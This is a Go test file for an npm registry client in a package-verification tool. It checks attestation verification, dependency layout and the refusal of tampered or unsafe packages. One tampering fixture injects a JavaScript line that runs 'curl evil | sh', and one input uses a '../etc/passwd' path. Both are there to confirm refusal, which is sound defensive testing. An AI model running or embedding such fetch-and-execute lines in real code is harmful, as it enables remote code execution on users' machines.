package npm_test

import (
	"context"
	"crypto/sha512"
	"encoding/hex"
	"errors"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sigstore/sigstore-go/pkg/root"

	"github.com/mcp-preflight/preflight"
	"github.com/mcp-preflight/preflight/internal/npm"
	"github.com/mcp-preflight/preflight/internal/store"
	"github.com/mcp-preflight/preflight/policy"
	"github.com/mcp-preflight/preflight/verify"
	"github.com/mcp-preflight/preflight/verify/verifytest"
)

const (
	rootName   = "@acme/weather-mcp"
	rootRepo   = "acme/weather-mcp"
	workflow   = ".github/workflows/release.yml"
	releaseRef = "refs/tags/v1.0.0"
	commit     = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b"
)

var sigstoreOnce = sync.OnceValues(verifytest.NewSigstore)

type env struct {
	reg *verifytest.NPMRegistry
	c   *npm.Client
	st  *store.Store
	tmp string
}

func newEnv(t *testing.T, cfg npm.Config) *env {
	t.Helper()
	reg, err := verifytest.NewNPMRegistry()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(reg.Close)
	cfg.Registry = reg.URL()
	c, err := npm.New(cfg)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	tmp := t.TempDir()
	st, err := store.Open(filepath.Join(tmp, "store"))
	if err != nil {
		t.Fatal(err)
	}
	return &env{reg: reg, c: c, st: st, tmp: tmp}
}

func (e *env) publish(t *testing.T, p verifytest.NPMPackage) []byte {
	t.Helper()
	tgz, _, err := e.reg.Publish(p)
	if err != nil {
		t.Fatalf("Publish %s@%s: %v", p.Name, p.Version, err)
	}
	return tgz
}

// publishServer publishes a small dependency tree: the server needs
// @acme/util ^1.0.0 (1.2.0 is picked; 2.0.0 is latest but out of range),
// which needs left-pad-lite ^1.0.0, which the server also needs at ~1.0.0.
func (e *env) publishServer(t *testing.T, shrinkwrap bool) []byte {
	t.Helper()
	e.publish(t, verifytest.NPMPackage{Name: "left-pad-lite", Version: "1.0.1", Files: map[string][]byte{
		"index.js": []byte("module.exports = s => 'padded:' + s;\n")}})
	for _, v := range []string{"1.1.0", "1.2.0", "2.0.0"} {
		e.publish(t, verifytest.NPMPackage{Name: "@acme/util", Version: v,
			Dependencies: map[string]string{"left-pad-lite": "1.0.1"},
			Files:        map[string][]byte{"index.js": []byte("const pad = require('left-pad-lite');\nmodule.exports = s => pad(s) + ' v" + v + "';\n")}})
	}
	deps := map[string]string{"@acme/util": "^1.0.0", "left-pad-lite": "~1.0.0"}
	if shrinkwrap {
		deps = map[string]string{"@acme/util": "1.2.0", "left-pad-lite": "1.0.1"}
	}
	return e.publish(t, verifytest.NPMPackage{Name: rootName, Version: "1.0.0",
		Bin:          map[string]string{"weather-mcp": "bin/server.js"},
		Dependencies: deps,
		Shrinkwrap:   shrinkwrap,
		Files: map[string][]byte{
			"bin/server.js": []byte("#!/usr/bin/env node\nconst util = require('@acme/util');\nconsole.log(util('ok'));\n"),
			"README.md":     []byte("# weather\n"),
		}})
}

func sha512Hex(b []byte) string {
	s := sha512.Sum512(b)
	return hex.EncodeToString(s[:])
}

func wantClass(t *testing.T, err error, class *preflight.Class) {
	t.Helper()
	if err == nil {
		t.Fatalf("got no error, want %v", class)
	}
	var pe *preflight.Error
	if !errors.Is(err, class) || !errors.As(err, &pe) {
		t.Fatalf("got %v, want a *preflight.Error of class %v", err, class)
	}
}

func storeEntries(t *testing.T, st *store.Store) int {
	t.Helper()
	n := 0
	for _, d := range []string{"sha256", "tmp"} {
		es, err := os.ReadDir(filepath.Join(st.Dir(), d))
		if err != nil {
			t.Fatal(err)
		}
		n += len(es)
	}
	return n
}

// attest makes the provenance (keyless, by the release workflow of repo)
// and publish (registry key) attestations for a tarball.
func attest(t *testing.T, s *verifytest.Sigstore, key *verifytest.KeySigner, repo, name, version string, tgz []byte) (prov, pub []byte) {
	t.Helper()
	id := verifytest.GitHubActions(repo, workflow, releaseRef, commit)
	st, err := verifytest.SLSAProvenanceV1(verifytest.NPMPurl(name, version), map[string]string{"sha512": sha512Hex(tgz)}, verifytest.ProvenanceFor(id))
	if err != nil {
		t.Fatal(err)
	}
	if prov, err = s.Attest(id, st, verifytest.SignOptions{}); err != nil {
		t.Fatal(err)
	}
	ps, err := verifytest.NPMPublishStatement(name, version, sha512Hex(tgz))
	if err != nil {
		t.Fatal(err)
	}
	if pub, err = s.AttestWithKey(key, ps, verifytest.SignOptions{TlogEntryKind: "intoto", NoTimestamp: true}); err != nil {
		t.Fatal(err)
	}
	return prov, pub
}

func evidenceCheck(t *testing.T, s *verifytest.Sigstore, key *verifytest.KeySigner, sha512hex string, bundles [][]byte) verify.EvidenceCheck {
	t.Helper()
	raw, err := s.TrustedRootJSON()
	if err != nil {
		t.Fatal(err)
	}
	tm, err := root.NewTrustedRootFromJSON(raw)
	if err != nil {
		t.Fatal(err)
	}
	c := verify.EvidenceCheck{
		Material: tm,
		Artifact: map[string]string{"sha512": sha512hex},
		Signers: []policy.Signer{
			{Issuer: "https://token.actions.githubusercontent.com", Subject: "https://github.com/" + rootRepo + "/" + workflow + "@" + releaseRef,
				Repository: rootRepo, Ref: releaseRef, Workflow: workflow, Runner: "github-hosted"},
			{PublicKey: string(key.PublicKeyPEM())},
		},
		PredicateTypes: []string{verify.PredicateSLSAProvenanceV1, verify.PredicateNPMPublishV01},
	}
	for i, b := range bundles {
		c.Bundles = append(c.Bundles, verify.Bundle{Name: "npm attestation " + string(rune('0'+i)), JSON: b})
	}
	return c
}

func TestHappyPath(t *testing.T) {
	e := newEnv(t, npm.Config{})
	tgz := e.publishServer(t, false)
	s, err := sigstoreOnce()
	if err != nil {
		t.Fatal(err)
	}
	key, err := verifytest.NewKeySigner()
	if err != nil {
		t.Fatal(err)
	}
	prov, pub := attest(t, s, key, rootRepo, rootName, "1.0.0", tgz)
	e.reg.AddAttestations(rootName, "1.0.0", prov, pub)
	ctx := t.Context()

	v, err := e.c.Resolve(ctx, rootName, "^1.0.0")
	if err != nil {
		t.Fatalf("Resolve: %v", err)
	}
	if v.Version != "1.0.0" || v.Bin["weather-mcp"] != "bin/server.js" || v.Dependencies["@acme/util"] != "^1.0.0" || v.Attestations == nil {
		t.Errorf("Resolve = %+v", v)
	}
	sum, err := v.SHA512()
	if err != nil || sum != sha512Hex(tgz) {
		t.Fatalf("SHA512 = %s, %v; want %s", sum, err, sha512Hex(tgz))
	}
	entry, err := e.c.FetchTarball(ctx, v, e.st)
	if err != nil {
		t.Fatalf("FetchTarball: %v", err)
	}
	if got, err := os.ReadFile(entry.Path); err != nil || string(got) != string(tgz) {
		t.Fatalf("store entry differs from the published tarball (%v)", err)
	}

	bundles, err := e.c.Attestations(ctx, v.Name, v.Version)
	if err != nil {
		t.Fatalf("Attestations: %v", err)
	}
	facts, err := verify.VerifyEvidence(evidenceCheck(t, s, key, sum, bundles))
	if err != nil {
		t.Fatalf("VerifyEvidence: %v", err)
	}
	if len(facts) != 2 || facts[0].Provenance == nil || facts[0].Provenance.SourceCommit != commit {
		t.Errorf("facts = %+v", facts)
	}

	cl, err := e.c.Closure(ctx, v, e.st)
	if err != nil {
		t.Fatalf("Closure: %v", err)
	}
	want := []string{"node_modules/@acme/util@1.2.0", "node_modules/left-pad-lite@1.0.1"}
	if got := paths(cl); strings.Join(got, " ") != strings.Join(want, " ") {
		t.Errorf("closure = %v, want %v", got, want)
	}
	for _, p := range cl.Packages {
		if !strings.HasPrefix(p.Integrity, "sha512-") {
			t.Errorf("%s has integrity %q", p.Path, p.Integrity)
		}
	}

	dir := filepath.Join(e.tmp, "installs", npm.InstallDigest(v, cl))
	bin, err := e.c.Install(ctx, v, cl, e.st, dir)
	if err != nil {
		t.Fatalf("Install: %v", err)
	}
	if bin != filepath.Join(dir, "bin", "server.js") {
		t.Errorf("bin = %s", bin)
	}
	if fi, err := os.Stat(bin); err != nil || fi.Mode().Perm()&0o222 != 0 {
		t.Errorf("bin %s: %v, mode %v (want read-only)", bin, err, fi.Mode())
	}
	runNode(t, bin, "padded:ok v1.2.0")

	// Served from the store: the same install is a no-op, and a second
	// install elsewhere downloads no tarball either.
	before := e.reg.Requests()
	if again, err := e.c.Install(ctx, v, cl, e.st, dir); err != nil || again != bin {
		t.Fatalf("second Install = %s, %v", again, err)
	}
	dir2 := filepath.Join(e.tmp, "installs", "again")
	if _, err := e.c.Install(ctx, v, cl, e.st, dir2); err != nil {
		t.Fatalf("Install with a warm store: %v", err)
	}
	if after := e.reg.Requests(); after != before {
		t.Errorf("requests went from %+v to %+v; want none with a warm store", before, after)
	}
}

func paths(cl *npm.Closure) []string {
	var out []string
	for _, p := range cl.Packages {
		out = append(out, p.Path+"@"+p.Version)
	}
	return out
}

func runNode(t *testing.T, bin, want string) {
	t.Helper()
	node, err := exec.LookPath("node")
	if err != nil {
		t.Skip("node is not on PATH")
	}
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	out, err := exec.CommandContext(ctx, node, bin).CombinedOutput()
	if err != nil {
		t.Fatalf("node %s: %v\n%s", bin, err, out)
	}
	if got := strings.TrimSpace(string(out)); got != want {
		t.Errorf("node printed %q, want %q", got, want)
	}
}

func TestShrinkwrapInstall(t *testing.T) {
	e := newEnv(t, npm.Config{})
	e.publishServer(t, true)
	ctx := t.Context()
	v, err := e.c.Resolve(ctx, rootName, "latest")
	if err != nil {
		t.Fatal(err)
	}
	cl, err := e.c.Closure(ctx, v, e.st)
	if err != nil {
		t.Fatalf("Closure: %v", err)
	}
	want := []string{"node_modules/@acme/util@1.2.0", "node_modules/@acme/util/node_modules/left-pad-lite@1.0.1", "node_modules/left-pad-lite@1.0.1"}
	if got := paths(cl); strings.Join(got, " ") != strings.Join(want, " ") {
		t.Errorf("closure = %v, want %v", got, want)
	}
	bin, err := e.c.Install(ctx, v, cl, e.st, filepath.Join(e.tmp, "install"))
	if err != nil {
		t.Fatalf("Install: %v", err)
	}
	runNode(t, bin, "padded:ok v1.2.0")
}

func TestTamperedTarball(t *testing.T) {
	e := newEnv(t, npm.Config{})
	e.publishServer(t, false)
	v, err := e.c.Resolve(t.Context(), rootName, "1.0.0")
	if err != nil {
		t.Fatal(err)
	}
	evil, err := verifytest.NPMTarball(map[string][]byte{"package.json": []byte(`{"name":"@acme/weather-mcp","version":"1.0.0"}`)}, nil)
	if err != nil {
		t.Fatal(err)
	}
	e.reg.TamperTarball(rootName, "1.0.0", evil)
	_, err = e.c.FetchTarball(t.Context(), v, e.st)
	wantClass(t, err, preflight.ErrTampered)
	if n := storeEntries(t, e.st); n != 0 {
		t.Errorf("store holds %d entries after a refused download", n)
	}
}

func TestWrongSignerAndMissingAttestations(t *testing.T) {
	e := newEnv(t, npm.Config{})
	tgz := e.publishServer(t, false)
	s, err := sigstoreOnce()
	if err != nil {
		t.Fatal(err)
	}
	key, err := verifytest.NewKeySigner()
	if err != nil {
		t.Fatal(err)
	}
	ctx := t.Context()
	_, err = e.c.Attestations(ctx, rootName, "1.0.0")
	wantClass(t, err, preflight.ErrNotFound)

	// Built and signed by a fork's workflow: a valid signature by the
	// wrong identity.
	prov, pub := attest(t, s, key, "mallory/weather-mcp", rootName, "1.0.0", tgz)
	e.reg.AddAttestations(rootName, "1.0.0", prov, pub)
	bundles, err := e.c.Attestations(ctx, rootName, "1.0.0")
	if err != nil {
		t.Fatal(err)
	}
	_, err = verify.VerifyEvidence(evidenceCheck(t, s, key, sha512Hex(tgz), bundles))
	wantClass(t, err, preflight.ErrIdentity)
}

func TestDependencyTampering(t *testing.T) {
	for _, shrinkwrap := range []bool{false, true} {
		t.Run(map[bool]string{false: "resolved", true: "shrinkwrap"}[shrinkwrap], func(t *testing.T) {
			e := newEnv(t, npm.Config{})
			e.publishServer(t, shrinkwrap)
			ctx := t.Context()
			v, err := e.c.Resolve(ctx, rootName, "1.0.0")
			if err != nil {
				t.Fatal(err)
			}
			cl, err := e.c.Closure(ctx, v, e.st)
			if err != nil {
				t.Fatal(err)
			}
			evil, err := verifytest.NPMTarball(map[string][]byte{
				"package.json": []byte(`{"name":"left-pad-lite","version":"1.0.1"}`),
				"index.js":     []byte("require('child_process').execSync('curl evil | sh')\n")}, nil)
			if err != nil {
				t.Fatal(err)
			}
			e.reg.TamperTarball("left-pad-lite", "1.0.1", evil)
			dir := filepath.Join(e.tmp, "installs", "x")
			_, err = e.c.Install(ctx, v, cl, e.st, dir)
			wantClass(t, err, preflight.ErrTampered)
			if es, _ := os.ReadDir(filepath.Dir(dir)); len(es) != 0 {
				t.Errorf("install area holds %v after a refused install", es)
			}
		})
	}
}

// A lockfile entry whose integrity pins another package's tarball.
func TestSubstitutedPackage(t *testing.T) {
	e := newEnv(t, npm.Config{})
	e.publishServer(t, false)
	ctx := t.Context()
	v, err := e.c.Resolve(ctx, rootName, "1.0.0")
	if err != nil {
		t.Fatal(err)
	}
	util, err := e.c.Resolve(ctx, "@acme/util", "1.2.0")
	if err != nil {
		t.Fatal(err)
	}
	cl := &npm.Closure{Packages: []npm.LockedPackage{{Path: "node_modules/left-pad-lite", Name: "left-pad-lite", Version: "1.0.1", Resolved: util.Tarball, Integrity: util.Integrity}}}
	_, err = e.c.Install(ctx, v, cl, e.st, filepath.Join(e.tmp, "install"))
	wantClass(t, err, preflight.ErrTampered)
}

func TestUnsafeTarballInstall(t *testing.T) {
	e := newEnv(t, npm.Config{})
	tgz := npm.TraversalTarball(t)
	e.publish(t, verifytest.NPMPackage{Name: "evil-mcp", Version: "1.0.0", Tarball: tgz})
	ctx := t.Context()
	v, err := e.c.Resolve(ctx, "evil-mcp", "")
	if err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(e.tmp, "installs", "evil")
	_, err = e.c.Install(ctx, v, &npm.Closure{}, e.st, dir)
	wantClass(t, err, preflight.ErrMalformed)
	if es, _ := os.ReadDir(filepath.Dir(dir)); len(es) != 0 {
		t.Errorf("install area holds %v", es)
	}
	if _, err := os.Stat(filepath.Join(e.tmp, "escaped")); err == nil {
		t.Error("the archive wrote outside the install")
	}
}

func TestTransportFailures(t *testing.T) {
	tests := []struct {
		name  string
		cfg   npm.Config
		fault func(*verifytest.NPMRegistry)
		op    string // "resolve" or "fetch"
		ctx   time.Duration
		class *preflight.Class
	}{
		{"truncated tarball", npm.Config{}, func(r *verifytest.NPMRegistry) { r.Truncate(true) }, "fetch", 0, preflight.ErrUnavailable},
		{"truncated packument", npm.Config{}, func(r *verifytest.NPMRegistry) { r.Truncate(true) }, "resolve", 0, preflight.ErrUnavailable},
		{"oversized packument", npm.Config{MaxPackumentBytes: 64 << 10}, func(r *verifytest.NPMRegistry) { r.Oversize(1 << 20) }, "resolve", 0, preflight.ErrMalformed},
		{"oversized tarball", npm.Config{MaxTarballBytes: 64 << 10}, func(r *verifytest.NPMRegistry) { r.Oversize(1 << 20) }, "fetch", 0, preflight.ErrMalformed},
		{"oversized chunked packument", npm.Config{MaxPackumentBytes: 64 << 10}, func(r *verifytest.NPMRegistry) { r.Oversize(1 << 20); r.Chunked(true) }, "resolve", 0, preflight.ErrMalformed},
		{"oversized chunked tarball", npm.Config{MaxTarballBytes: 64 << 10}, func(r *verifytest.NPMRegistry) { r.Oversize(1 << 20); r.Chunked(true) }, "fetch", 0, preflight.ErrMalformed},
		{"HTTP 500 packument", npm.Config{}, func(r *verifytest.NPMRegistry) { r.Status(500) }, "resolve", 0, preflight.ErrUnavailable},
		{"HTTP 500 tarball", npm.Config{}, func(r *verifytest.NPMRegistry) { r.Status(500) }, "fetch", 0, preflight.ErrUnavailable},
		{"HTTP 404", npm.Config{}, func(r *verifytest.NPMRegistry) { r.Status(404) }, "fetch", 0, preflight.ErrNotFound},
		{"slow packument", npm.Config{}, func(r *verifytest.NPMRegistry) { r.SetDelay(5 * time.Second) }, "resolve", 100 * time.Millisecond, preflight.ErrTimeout},
		{"slow tarball", npm.Config{}, func(r *verifytest.NPMRegistry) { r.SetDelay(5 * time.Second) }, "fetch", 100 * time.Millisecond, preflight.ErrTimeout},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, tt.cfg)
			e.publishServer(t, false)
			v, err := e.c.Resolve(t.Context(), rootName, "1.0.0")
			if err != nil {
				t.Fatal(err)
			}
			tt.fault(e.reg)
			ctx := t.Context()
			if tt.ctx > 0 {
				var cancel context.CancelFunc
				ctx, cancel = context.WithTimeout(ctx, tt.ctx)
				defer cancel()
			}
			if tt.op == "resolve" {
				_, err = e.c.Resolve(ctx, rootName, "1.0.0")
			} else {
				_, err = e.c.FetchTarball(ctx, v, e.st)
				if n := storeEntries(t, e.st); n != 0 {
					t.Errorf("store holds %d entries after a failed download", n)
				}
			}
			t.Log(err)
			wantClass(t, err, tt.class)
		})
	}
}

func TestUnknownPackage(t *testing.T) {
	e := newEnv(t, npm.Config{})
	e.publishServer(t, false)
	_, err := e.c.Resolve(t.Context(), "@acme/nope", "latest")
	wantClass(t, err, preflight.ErrNotFound)
	_, err = e.c.Resolve(t.Context(), rootName, "^3.0.0")
	wantClass(t, err, preflight.ErrNotFound)
	_, err = e.c.Resolve(t.Context(), "../etc/passwd", "latest")
	wantClass(t, err, preflight.ErrMalformed)
}

func TestRedirectToAnotherHost(t *testing.T) {
	mirror := newEnv(t, npm.Config{})
	mirror.publishServer(t, false)
	mu, err := url.Parse(mirror.reg.URL())
	if err != nil {
		t.Fatal(err)
	}
	for _, allowed := range []bool{false, true} {
		t.Run(map[bool]string{false: "refused", true: "allowed"}[allowed], func(t *testing.T) {
			var cfg npm.Config
			if allowed {
				cfg.AllowedHosts = []string{mu.Host}
			}
			e := newEnv(t, cfg)
			e.publishServer(t, false)
			e.reg.RedirectTarballs(mirror.reg.URL())
			v, err := e.c.Resolve(t.Context(), "left-pad-lite", "1.0.1")
			if err != nil {
				t.Fatal(err)
			}
			_, err = e.c.FetchTarball(t.Context(), v, e.st)
			if allowed {
				if err != nil {
					t.Fatalf("FetchTarball through an allowed redirect: %v", err)
				}
				return
			}
			t.Log(err)
			wantClass(t, err, preflight.ErrUnavailable)
		})
	}
}

func TestNewRefusesBadConfig(t *testing.T) {
	for _, cfg := range []npm.Config{
		{Registry: "http://registry.example.com"},
		{Registry: "ftp://127.0.0.1"},
		{Registry: "https://user:pw@registry.example.com"},
		{Registry: "https://registry.example.com", MaxTarballBytes: -1},
		{Registry: "https://registry.example.com", AllowedHosts: []string{"https://x"}},
	} {
		_, err := npm.New(cfg)
		wantClass(t, err, preflight.ErrConfig)
	}
	if _, err := npm.New(npm.Config{}); err != nil {
		t.Errorf("zero Config: %v", err)
	}
}

// module is a package whose index.js exports its name and version and
// the modules its dependencies resolve to, so node can show the layout.
func module(name, version string, deps map[string]string) verifytest.NPMPackage {
	var b strings.Builder
	b.WriteString("module.exports = {v: '" + name + "@" + version + "', deps: {")
	for d := range deps {
		b.WriteString("'" + d + "': require('" + d + "'), ")
	}
	b.WriteString("}};\n")
	return verifytest.NPMPackage{Name: name, Version: version, Dependencies: deps, Files: map[string][]byte{"index.js": []byte(b.String())}}
}

func TestResolveClosureLayout(t *testing.T) {
	e := newEnv(t, npm.Config{})
	for _, p := range []verifytest.NPMPackage{
		module("v", "1.0.0", nil), module("v", "2.0.0", nil),
		module("t", "1.0.0", map[string]string{"v": "^1"}), module("t", "2.0.0", nil),
		module("u", "1.0.0", map[string]string{"v": "^2"}), module("u", "2.0.0", nil),
		module("p", "1.0.0", map[string]string{"t": "^1", "u": "^1"}),
	} {
		e.publish(t, p)
	}
	e.reg.SetDistTag("u", "stable", "2.0.0")
	e.reg.SetDistTag("u", "latest", "1.0.0")
	root := module("server", "1.0.0", map[string]string{"p": "1.0.0", "t": "^2.0.0", "u": "stable"})
	root.Bin = map[string]string{"server": "cli.js"}
	root.Files["cli.js"] = []byte("const p = require('p');\nconsole.log(p.deps.t.deps.v.v, p.deps.u.deps.v.v, require('t').v, require('u').v);\n")
	e.publish(t, root)

	ctx := t.Context()
	v, err := e.c.Resolve(ctx, "server", "")
	if err != nil {
		t.Fatal(err)
	}
	cl, err := e.c.ResolveClosure(ctx, v)
	if err != nil {
		t.Fatalf("ResolveClosure: %v", err)
	}
	// t@1 under p resolves v@1 from the top; u@1 under p needs v@2, which
	// must not go to p's node_modules, where it would shadow t's v@1.
	want := []string{
		"node_modules/p@1.0.0", "node_modules/p/node_modules/t@1.0.0", "node_modules/p/node_modules/u@1.0.0",
		"node_modules/p/node_modules/u/node_modules/v@2.0.0", "node_modules/t@2.0.0", "node_modules/u@2.0.0", "node_modules/v@1.0.0",
	}
	if got := paths(cl); strings.Join(got, " ") != strings.Join(want, " ") {
		t.Errorf("closure =\n%v\nwant\n%v", got, want)
	}
	bin, err := e.c.Install(ctx, v, cl, e.st, filepath.Join(e.tmp, "install"))
	if err != nil {
		t.Fatalf("Install: %v", err)
	}
	runNode(t, bin, "v@1.0.0 v@2.0.0 t@2.0.0 u@2.0.0")
}

func TestResolveClosureRefusals(t *testing.T) {
	tests := []struct {
		name  string
		cfg   npm.Config
		deps  map[string]string
		class *preflight.Class
	}{
		{"git dependency", npm.Config{}, map[string]string{"v": "github:acme/v"}, preflight.ErrMalformed},
		{"file dependency", npm.Config{}, map[string]string{"v": "file:../v"}, preflight.ErrMalformed},
		{"alias", npm.Config{}, map[string]string{"v": "npm:other@1"}, preflight.ErrMalformed},
		{"unpublished", npm.Config{}, map[string]string{"nope": "^1"}, preflight.ErrNotFound},
		{"no version in range", npm.Config{}, map[string]string{"v": "^9"}, preflight.ErrNotFound},
		{"too many packages", npm.Config{MaxPackages: 1}, map[string]string{"v": "^1", "w": "^1"}, preflight.ErrMalformed},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, tt.cfg)
			e.publish(t, module("v", "1.0.0", nil))
			e.publish(t, module("w", "1.0.0", map[string]string{"v": "^1"}))
			e.publish(t, module("server", "1.0.0", tt.deps))
			v, err := e.c.Resolve(t.Context(), "server", "1.0.0")
			if err != nil {
				t.Fatal(err)
			}
			_, err = e.c.ResolveClosure(t.Context(), v)
			wantClass(t, err, tt.class)
		})
	}
}

func TestInstallDirectoryRules(t *testing.T) {
	e := newEnv(t, npm.Config{})
	e.publishServer(t, false)
	ctx := t.Context()
	v, err := e.c.Resolve(ctx, rootName, "1.0.0")
	if err != nil {
		t.Fatal(err)
	}
	cl, err := e.c.Closure(ctx, v, e.st)
	if err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(e.tmp, "installs", "shared")

	// Concurrent installs of the same closure: both succeed, one wins.
	var wg sync.WaitGroup
	errs := make([]error, 4)
	for i := range errs {
		wg.Go(func() { _, errs[i] = e.c.Install(ctx, v, cl, e.st, dir) })
	}
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			t.Fatalf("concurrent Install: %v", err)
		}
	}
	if es, _ := os.ReadDir(filepath.Dir(dir)); len(es) != 1 {
		t.Errorf("install area holds %d entries, want 1", len(es))
	}

	// Another closure into the same directory is refused.
	other := &npm.Closure{Packages: cl.Packages[:1]}
	_, err = e.c.Install(ctx, v, other, e.st, dir)
	wantClass(t, err, preflight.ErrStore)

	// So is a directory Install did not make.
	plain := filepath.Join(e.tmp, "plain")
	if err := os.Mkdir(plain, 0o700); err != nil {
		t.Fatal(err)
	}
	_, err = e.c.Install(ctx, v, cl, e.st, plain)
	wantClass(t, err, preflight.ErrStore)
}
